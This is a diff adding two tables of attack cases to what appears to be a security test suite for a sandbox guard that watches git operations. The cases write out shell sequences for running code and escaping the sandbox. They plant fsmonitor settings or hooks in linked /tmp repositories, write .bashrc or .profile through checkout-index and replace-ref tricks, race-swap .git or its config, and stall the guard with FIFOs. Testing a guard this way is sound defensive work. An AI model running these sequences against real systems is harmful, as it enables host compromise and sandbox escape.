@@ -280,5 +280,53 @@ SESSION22 = {
     "gitconfig by printf -v": [RUN, C1, "printf -v G '%s/.gitconfig' \"$HOME\"", "printf '[core]\\n\\tfsmonitor = sh run.sh\\n' >> \"$G\"", "git status > /dev/null"],
 }
 
+# 6. the sandbox's git reads a repository the guard's host-side reader cannot: its settings and hooks run unjudged
+CFG = ("cfg.txt", "[core]\n\trepositoryformatversion = 0\n\tfsmonitor = sh run.sh\n")
+HOOK = ("h.txt", "#!/bin/sh\n" + P + "\n")
+_TI = "git init -q {T}"
+SANDBOXGIT = {
+    ".git linked to /tmp, its config by cp": [RUN, CFG, _TI, "cp cfg.txt {T}/.git/config", "ln -s {T}/.git .git", "git status > /dev/null"],
+    ".git linked to /tmp, its config by cat >>": [RUN, CFG, _TI, "cat cfg.txt >> {T}/.git/config", "ln -s {T}/.git .git", "git status > /dev/null"],
+    ".git linked to /tmp, its config by python": [RUN, CFG, _TI, "python3 -c \"open('{T}/.git/config','w').write(open('cfg.txt').read())\"", "ln -s {T}/.git .git", "git status > /dev/null"],
+    ".git linked to /tmp, its config by install": [RUN, CFG, _TI, "install -m 644 cfg.txt {T}/.git/config", "ln -s {T}/.git .git", "git status > /dev/null"],
+    ".git linked to /tmp, a hook by cp": [RUN, HOOK, _TI + " && git -C {T} commit -q --allow-empty -m a", "cp h.txt {T}/.git/hooks/post-checkout && chmod +x {T}/.git/hooks/post-checkout", "ln -s {T}/.git .git", "git checkout -q -b z"],
+    ".git linked to /tmp, a hook by tar": [RUN, HOOK, _TI + " && git -C {T} commit -q --allow-empty -m a", "mkdir -p x/hooks && cp h.txt x/hooks/pre-commit && chmod +x x/hooks/pre-commit && tar cf x.tar -C x hooks && tar xf x.tar -C {T}/.git", "ln -s {T}/.git .git", "git commit -q --allow-empty -m b"],
+    "gitfile to /tmp, its config by cp": [RUN, CFG, _TI, "cp cfg.txt {T}/.git/config", "printf 'gitdir: {T}/.git\\n' > .git", "git status > /dev/null"],
+    "git -C /tmp, its config by cp": [RUN, CFG, _TI, "cp cfg.txt {T}/.git/config", "git -C {T} status > /dev/null"],
+    "cd /tmp, its config by cp": [RUN, CFG, _TI, "cp cfg.txt {T}/.git/config", "cd {T} && git status > /dev/null"],
+    "a folder linked to /tmp, its config by cp": [RUN, CFG, _TI, "cp cfg.txt {T}/.git/config", "ln -s {T} t", "git -C t status > /dev/null"],
+    "a /tmp repo's config by mv": [RUN, CFG, _TI, "mv cfg.txt {T}/.git/config", "git -C {T} status > /dev/null"],
+    "a /tmp repo's hooksPath by a template": [RUN, HOOK, "mkdir -p tpl/hooks && cp h.txt tpl/hooks/post-checkout && chmod +x tpl/hooks/post-checkout", "git init -q --template=tpl {T} && git -C {T} commit -q --allow-empty -m a", "git -C {T} checkout -q -b z"],
+    "a /tmp clone's hook by cp -r": [RUN, HOOK, "git init -q {T} && git -C {T} commit -q --allow-empty -m a && mkdir -p hk && cp h.txt hk/post-checkout && chmod +x hk/post-checkout", "cp -r hk/. {T}/.git/hooks/", "git -C {T} checkout -q -b z"],
+}
+
+# 7. attacking guard22's own readers (written after its first commits)
+_PROMISOR_CFG = ("p.cfg", "[core]\n\trepositoryformatversion = 1\n[extensions]\n\tpartialClone = origin\n[remote \"origin\"]\n"
+                          "\turl = {W}\n\tpromisor = true\n\tuploadpack = " + HP + "\n")
+OWN = {
+    "config swapped to a promisor one while the guard reads": [C1, _PROMISOR_CFG, "cp .git/config c0.cfg",
+                                                                "(for i in $(seq 1 4000); do cp p.cfg .git/config; cp c0.cfg .git/config; done > /dev/null 2>&1 &)",
+                                                                "git merge -q {S}", "git merge -q {S}", "git merge -q {S}"],
+    ".git swapped with a link to the host repo while the guard reads": [C1, "mv .git .git0",
+                                                                         "(for i in $(seq 1 4000); do ln -sfn .git0 .git; ln -sfn {HR}/.git .git; done > /dev/null 2>&1 &)",
+                                                                         "git checkout HEAD -- .", "git checkout HEAD -- .", "git checkout HEAD -- ."],
+    "mkfifo .git": ["mkfifo .git", "git checkout HEAD -- . 2>/dev/null; true"],
+    "a loose ref is a FIFO, reset --hard to it": [C1, "mkfifo .git/refs/heads/f", "git reset -q --hard f"],
+    "git -c include.path on the writer": [C1, _PROMISOR_CFG, "git -c include.path={W}/p.cfg merge -q {S}"],
+    "checkout-index --stdin with a prefix": [C1, ("bashrc", P + "\n"), "git add bashrc && git commit -qm b", "echo bashrc | git checkout-index -f --stdin --prefix=."],
+    "checkout --pathspec-from-file without a rev": _CL + ["git reset -q o/p-bashrc", ("l.txt", ".bashrc\n"), "git checkout --pathspec-from-file=l.txt"],
+    "checkout-index --prefix with a variable": [C1, ("bashrc", P + "\n"), "git add bashrc && git commit -qm b", "P=.; git checkout-index -a -f --prefix=$P"],
+    "checkout-index --prefix=./.": [C1, ("bashrc", P + "\n"), "git add bashrc && git commit -qm b", "git checkout-index -a -f --prefix=./."],
+    "replace then merge with useReplaceRefs off": _CL + ["git checkout -q -b side && echo x > a.txt && git add a.txt && git commit -qm s && git checkout -q main", "git replace o/p-bashrc side", "git -c core.useReplaceRefs=false merge -q o/p-bashrc"],
+    "replace then GIT_NO_REPLACE_OBJECTS merge": _CL + ["git checkout -q -b side && echo x > a.txt && git add a.txt && git commit -qm s && git checkout -q main", "git replace o/p-bashrc side", "GIT_NO_REPLACE_OBJECTS=1 git merge -q o/p-bashrc"],
+    "replace then --no-replace-objects merge": _CL + ["git checkout -q -b side && echo x > a.txt && git add a.txt && git commit -qm s && git checkout -q main", "git replace o/p-bashrc side", "git --no-replace-objects merge -q o/p-bashrc"],
+    "switch --discard-changes to a reset branch": _CL + ["git branch -q y o/p-bashrc 2>/dev/null; git branch y o/p-bashrc", "git switch -q --discard-changes y"],
+    "stash push of a path after a mixed reset": _CL + ["git reset -q o/p-profile", "git stash push -q -- .profile"],
+    "a submodule-shaped core.worktree naming the workspace": _CL + ["mkdir -p m && git init -q --separate-git-dir=.git/modules/m m && git -C m fetch -q ../r.bundle 'refs/heads/*:refs/remotes/o/*'",
+                                                                     "git -C m config core.worktree ../../..", "git -C m checkout -q o/p-bashrc -- ."],
+    "the time budget spent on FIFO objects, then a real listing": _CL + ["for i in 1 2 3; do mkfifo .git/refs/heads/f$i; done",
+                                                                          "git merge -q f1 2>/dev/null; git merge -q f2 2>/dev/null; git merge -q f3 2>/dev/null; git merge -q o/p-bashrc"],
+}
+
 TABLES = {"hostexec": HOSTEXEC, "hostread": HOSTREAD, "diverge": DIVERGE, "slow": SLOW, "open21": OPEN21,
-          "session": SESSION22}
+          "session": SESSION22, "sandboxgit": SANDBOXGIT, "own": OWN}
